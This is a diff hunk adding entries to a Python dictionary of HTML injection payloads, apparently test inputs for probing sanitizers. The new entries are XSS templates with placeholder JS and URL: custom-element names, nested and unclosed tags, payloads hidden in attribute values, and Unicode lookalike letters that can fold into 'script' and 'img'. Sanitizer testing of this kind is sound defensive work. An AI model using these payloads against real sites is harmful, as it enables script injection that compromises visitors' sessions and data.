@@ -88,6 +88,11 @@ HTML = {
     "portal": "<portal src=URL></portal><fencedframe src=URL></fencedframe><slot onslotchange=JS></slot>",
     "custom": "<x-a onclick=JS style=position:fixed>se</x-a><isindex onclick=JS action=URL>",
     "null": "<img src=x \0onerror=JS><scr\0ipt>JS</script>",
+    "our-names": "<x-script>JS</x-script><x-img src=x onerror=JS><x-a href='javascript:JS' onclick=JS>se</x-a>",
+    "our-names-nesting": "<<b>script>JS</script><x-<b>img src=x onerror=JS><</b>img src=x onerror=JS><b<b onclick=JS>",
+    "our-names-inside": "<p title='<x-img src=x onerror=JS>'>a</p><img alt='<b><x-b' src='\"><x-a onclick=JS>'>",
+    "left-open": "<p><a title='<img src=x onerror=JS>'><b><font onclick=JS></p><p>a<table><a href='javascript:JS'><td>",
+    "letters-alike": "<\u017fcript>JS</\u017fcript><\u0131mg src=x onerror=JS><lin\u212a rel=stylesheet href='URL'>",
     "trusted": "<div data-toggle=tooltip data-html=true title='<img src=x onerror=JS>' data-link=IN>se</div>",
 }
 MARKDOWN = {
